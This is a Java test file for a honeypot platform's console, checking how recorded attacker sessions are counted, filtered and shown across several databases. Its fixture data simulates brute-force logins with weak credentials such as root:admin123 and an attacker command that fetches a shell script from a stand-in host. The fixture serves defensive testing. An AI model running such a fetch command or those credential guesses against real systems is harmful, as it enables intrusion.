package io.rustbucket.registry;

import static io.rustbucket.registry.RegistryFixture.json;
import static org.assertj.core.api.Assertions.assertThat;

import io.rustbucket.core.json.Json;
import io.rustbucket.core.testing.TestDatabase;
import io.rustbucket.registry.activity.Activity;
import io.rustbucket.registry.sensors.SensorStatus;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Supplier;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The console's reads of attacker activity, on every database the platform supports. */
class ActivityTest {
    static List<Arguments> databases() {
        return List.of(
                Arguments.of("h2", (Supplier<TestDatabase>) TestDatabase::h2),
                Arguments.of("postgresql", (Supplier<TestDatabase>) TestDatabase::postgres),
                Arguments.of("mariadb", (Supplier<TestDatabase>) TestDatabase::mysql));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("databases")
    void timelineTopListsSessionsAndTranscript(String name, Supplier<TestDatabase> database) throws Exception {
        try (RegistryFixture f = new RegistryFixture(database.get(), Map.of())) {
            String id = json(f.register(RegistrationTest.legacy("trap-a", f.newKey("trap-a"))))
                    .path("id")
                    .asText();
            f.registry.sensors().setStatus(id, SensorStatus.ACTIVE, "test");
            Instant now = f.clock.instant();
            Instant t1 = now.minus(Duration.ofMinutes(150));
            Instant t2 = now.minus(Duration.ofMinutes(30));
            List<String> lines = new ArrayList<>();
            lines.addAll(session("S1", "ssh", "203.0.113.5", t1, "root", "admin123", "wget http://x.test/a_%.sh"));
            lines.addAll(session("S2", "telnet", "203.0.113.5", t2, "admin", "admin", "uname -a"));
            lines.addAll(session("S3", "ssh", "198.51.100.7", t2.plusSeconds(5), "root", "admin123", "id"));
            String day = LocalDate.ofInstant(now, ZoneOffset.UTC).toString();
            f.core.store()
                    .put(
                            "sensors/trap-a/logs/" + day + "/trap-a_1_2.jsonl.gz",
                            ParseAndAnalyzeTest.gzip(String.join("\n", lines) + "\n"));
            assertThat(f.registry.runJob(Registry.Job.PARSE).summary()).contains("events=12");
            Activity a = f.registry.activity();

            Activity.Timeline t = a.timeline(now.minus(Duration.ofHours(3)), now, 3);
            assertThat(t.total()).isEqualTo(3);
            assertThat(t.bucket()).isIn(Duration.ofHours(1), Duration.ofHours(2)); // 3-4 whole hours, <= 3 buckets
            assertThat(t.byProtocol().keySet()).containsExactly("ssh", "telnet");
            assertThat(java.util.Arrays.stream(t.byProtocol().get("ssh")).sum()).isEqualTo(2);
            assertThat(java.util.Arrays.stream(t.byProtocol().get("telnet")).sum())
                    .isEqualTo(1);
            assertThat(t.starts().getFirst())
                    .isEqualTo(now.minus(Duration.ofHours(3)).truncatedTo(ChronoUnit.HOURS));
            assertThat(t.starts().getLast()).isAfterOrEqualTo(now);
            assertThat(a.connections(now.minus(Duration.ofHours(1)), now)).isEqualTo(2); // whole hours
            Activity.Timeline month = a.timeline(now.minus(Duration.ofDays(30)), now, 30);
            assertThat(month.bucket()).isIn(Duration.ofHours(24), Duration.ofHours(25)); // 720-721 hours, 30 buckets
            assertThat(month.total()).isEqualTo(3);

            Instant from = now.minus(Duration.ofDays(1));
            assertThat(a.top(Activity.Dimension.SOURCE_IP, from, now, 10))
                    .containsExactly(new Activity.Count("203.0.113.5", 8), new Activity.Count("198.51.100.7", 4));
            assertThat(a.top(Activity.Dimension.CREDENTIAL, from, now, 1))
                    .containsExactly(new Activity.Count("root:admin123", 2));
            assertThat(a.top(Activity.Dimension.COMMAND, from, now, 10)).hasSize(3);
            assertThat(a.top(Activity.Dimension.URL, from, now, 10))
                    .containsExactly(new Activity.Count("http://x.test/a_%.sh", 1));

            var all = a.sessions(new Activity.SessionFilter(null, null, null, null, null, null, null), 10, 0);
            assertThat(all).extracting(Activity.SessionSummary::id).containsExactly("S3", "S2", "S1");
            assertThat(all.get(2).commands()).isEqualTo(1);
            assertThat(all.get(2).events()).isEqualTo(4);
            assertThat(all.get(2).user()).isEqualTo("root");
            assertThat(a.sessions(new Activity.SessionFilter(null, null, null, null, null, null, null), 1, 1))
                    .extracting(Activity.SessionSummary::id)
                    .containsExactly("S2");
            assertThat(a.sessions(filter(null, "203.0.113.5", null, null), 10, 0))
                    .extracting(Activity.SessionSummary::id)
                    .containsExactly("S2", "S1");
            assertThat(a.sessions(filter("ssh", null, "root", null), 10, 0))
                    .extracting(Activity.SessionSummary::id)
                    .containsExactly("S3", "S1");
            // The user's text is matched literally: % and _ are not wildcards.
            assertThat(a.sessions(filter(null, null, null, "A_%.SH"), 10, 0))
                    .extracting(Activity.SessionSummary::id)
                    .containsExactly("S1");
            assertThat(a.sessions(filter(null, null, null, "a%"), 10, 0)).isEmpty();

            var transcript = a.session("S1").orElseThrow();
            assertThat(transcript)
                    .extracting(Activity.SessionEvent::action)
                    .containsExactly("connection.open", "login.attempt", "command", "connection.close");
            assertThat(transcript.get(2).response()).isEqualTo("answer to wget http://x.test/a_%.sh");
            assertThat(transcript.get(2).responder()).isEqualTo("emulator");
            assertThat(a.session("nope")).isEmpty();
            assertThat(a.newestParsed()).isPresent();

            // The hourly counts are a derived view: dropped, they come back the same from the events.
            var before = a.top(Activity.Dimension.SOURCE_IP, from, now, 10);
            f.core.database().useHandle(h -> h.execute("DELETE FROM activity_hourly"));
            a.changed(); // cached figures are dropped once a change is committed
            assertThat(a.top(Activity.Dimension.SOURCE_IP, from, now, 10)).isEmpty();
            assertThat(a.rebuildIfEmpty()).isEqualTo(12);
            assertThat(a.rebuildIfEmpty()).isZero();
            assertThat(a.top(Activity.Dimension.SOURCE_IP, from, now, 10)).isEqualTo(before);
            assertThat(a.connections(now.minus(Duration.ofDays(1)), now)).isEqualTo(3);
        }
    }

    static Activity.SessionFilter filter(String protocol, String ip, String user, String text) {
        return new Activity.SessionFilter(null, null, null, protocol, ip, user, text);
    }

    static List<String> session(
            String id, String protocol, String ip, Instant at, String user, String password, String command) {
        return List.of(
                event(id, protocol, ip, at, "connection.open", Map.of()),
                event(
                        id,
                        protocol,
                        ip,
                        at.plusSeconds(1),
                        "login.attempt",
                        Map.of("user.name", user, "honeypot.password", password)),
                event(
                        id,
                        protocol,
                        ip,
                        at.plusSeconds(2),
                        "command",
                        command.startsWith("wget")
                                ? Map.of(
                                        "honeypot.input",
                                        command,
                                        "honeypot.response",
                                        "answer to " + command,
                                        "honeypot.responder",
                                        "emulator",
                                        "url.original",
                                        command.substring(5))
                                : Map.of(
                                        "honeypot.input",
                                        command,
                                        "honeypot.response",
                                        "answer to " + command,
                                        "honeypot.responder",
                                        "emulator")),
                event(id, protocol, ip, at.plusSeconds(3), "connection.close", Map.of()));
    }

    static String event(String session, String protocol, String ip, Instant at, String action, Map<String, ?> more) {
        Map<String, Object> e = new LinkedHashMap<>();
        e.put("@timestamp", at.toString());
        e.put("event.id", UUID.randomUUID().toString());
        e.put("event.action", action);
        e.put("observer.name", "trap-a");
        e.put("session.id", session);
        e.put("source.ip", ip);
        e.put("network.protocol", protocol);
        e.putAll(more);
        return Json.write(e);
    }
}
